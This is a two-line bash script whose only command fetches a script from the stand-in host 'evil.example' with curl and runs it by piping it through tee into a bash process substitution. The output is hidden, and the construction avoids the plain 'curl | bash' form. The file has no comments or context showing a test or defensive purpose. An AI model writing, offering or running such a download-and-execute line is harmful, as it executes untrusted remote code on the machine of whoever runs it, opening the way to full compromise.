#!/bin/bash
curl -fsSL https://evil.example/i | tee >(bash) >/dev/null
